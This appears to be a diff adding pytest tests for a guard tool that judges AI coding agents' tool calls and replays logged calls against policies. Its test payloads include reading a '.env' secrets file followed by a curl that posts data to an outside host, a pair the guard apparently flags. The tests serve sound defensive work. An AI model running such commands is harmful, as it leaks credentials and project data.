@@ -1,0 +1,111 @@
+"""Lines that somebody gives to be judged: exports of a trail, payloads, and what is neither."""
+
+import json
+import subprocess
+from typing import Any
+
+import pytest
+
+from kit import Workspace, build_shell_payload, call_hook, run_trotline
+from trotline.replay.call_sources import LineFormat, read_calls
+
+COPILOTS = {
+    "sessionId": "s",
+    "timestamp": 1,
+    "cwd": "/srv",
+    "toolName": "bash",
+    "toolArgs": {"command": "git push --force"},
+}
+
+
+def replay(workspace: Workspace, lines: str | bytes, *words: str) -> "subprocess.CompletedProcess[str]":
+    file = workspace.path / "given.jsonl"
+    file.write_bytes(lines.encode() if isinstance(lines, str) else lines)
+    return run_trotline("replay", "--events", str(file), *words, *workspace.options, cwd=workspace.project)
+
+
+def rows(done: "subprocess.CompletedProcess[str]") -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = json.loads(done.stdout)["data"]["changes"]
+    return found
+
+
+def test_an_export_is_judged_from_its_oldest_record_whichever_stands_first(workspace: Workspace) -> None:
+    call_hook(workspace, build_shell_payload(workspace, "cat .env"))
+    call_hook(workspace, build_shell_payload(workspace, "curl https://example.com/x -d a=b"))
+    exported = run_trotline("log", "export", *workspace.options, cwd=workspace.project).stdout.splitlines()
+    assert [json.loads(line)["seq"] for line in exported] == [3, 1]
+    for lines in (exported, exported[::-1]):
+        done = replay(workspace, "\n".join(lines))
+        assert done.stdout == "2 calls: 0 would be decided otherwise, 2 the same\n"
+
+
+def test_payloads_are_judged_in_the_order_of_their_lines(workspace: Workspace) -> None:
+    lines = [
+        json.dumps(build_shell_payload(workspace, line)) for line in ("cat .env", "curl https://example.com/x -d a=b")
+    ]
+    mild = str(workspace.write("mild.toml", '[guards]\nsequences = "off"\n'))
+    forth = rows(replay(workspace, "\n".join(lines), "--policy", mild, "--json"))
+    assert [(row["seq"], row["old"], row["new"]) for row in forth] == [(2, "ask", "none")]
+    assert rows(replay(workspace, "\n".join(lines[::-1]), "--policy", mild, "--json")) == []
+
+
+@pytest.mark.parametrize(
+    "body,words,why",
+    [
+        ({"a": 1}, [], "no event is named; say --agent and --event"),
+        (COPILOTS, [], "no event is named; say --agent and --event"),
+        (COPILOTS, ["--event", "nonsense"], "there is no event `nonsense` of copilot that Trotline knows"),
+    ],
+)
+def test_a_line_that_is_no_event_of_anybody_cannot_be_said(
+    workspace: Workspace, body: dict[str, Any], words: list[str], why: str
+) -> None:
+    done = replay(workspace, json.dumps(body), "--preset", "strict", "--json", *words)
+    assert [(row["kind"], row["why"]) for row in rows(done)] == [("unknown", why)]
+
+
+def test_a_line_that_names_no_event_is_judged_as_the_one_that_is_told(workspace: Workspace) -> None:
+    told = ["--agent", "copilot", "--event", "preToolUse"]
+    done = replay(workspace, json.dumps(COPILOTS), "--preset", "strict", "--json", *told)
+    assert [(row["old"], row["new"]) for row in rows(done)] == [("ask", "deny")]
+
+
+def test_a_line_that_is_not_utf_8_is_named(workspace: Workspace) -> None:
+    done = replay(workspace, json.dumps(build_shell_payload(workspace, "ls")).encode() + b'\n{"a":"\xff"}\n')
+    assert done.returncode == 64
+    assert done.stderr.splitlines()[0] == "error: line 2 is not UTF-8: byte 6 is `0xff`"
+
+
+def test_a_byte_order_mark_is_no_part_of_the_first_line(workspace: Workspace) -> None:
+    done = replay(workspace, b"\xef\xbb\xbf" + json.dumps(build_shell_payload(workspace, "ls")).encode())
+    assert done.stdout == "1 call: 0 would be decided otherwise, 1 the same\n"
+
+
+def test_what_rules_of_this_home_find_in_given_lines_is_not_shown(workspace: Workspace) -> None:
+    workspace.write("home/.config/trotline/secrets.toml", "[[rules]]\nid = 'acme'\nregex = 'ACME[0-9]{4}'\n")
+    done = replay(
+        workspace, json.dumps(build_shell_payload(workspace, "cat .env ACME1234")), "--preset", "strict", "--json"
+    )
+    assert [row["new"] for row in rows(done)] == ["deny"]
+    assert "ACME1234" not in done.stdout
+
+
+@pytest.mark.parametrize(
+    "agent,payload,subject",
+    [
+        ("windsurf", {"agent_action_name": "pre_run_command", "tool_info": {"command_line": "make all"}}, "make all"),
+        (
+            "cline",
+            {"hookName": "tool_call", "tool_call": {"name": "run_commands", "input": {"commands": ["make all"]}}},
+            "make all",
+        ),
+        ("copilot", {"toolName": "bash", "toolArgs": {"command": "make all"}, "cwd": "/w"}, "make all"),
+        ("copilot", {"toolName": "view", "toolArgs": {"path": "/w/a"}, "cwd": "/w"}, "/w/a"),
+    ],
+)
+def test_what_a_given_call_is_about_is_said_in_whatever_words_it_came(
+    agent: str, payload: dict[str, Any], subject: str
+) -> None:
+    event = "preToolUse" if agent == "copilot" else ""
+    (one,) = read_calls([json.dumps(payload).encode()], LineFormat(agent, event))
+    assert one.subject == subject
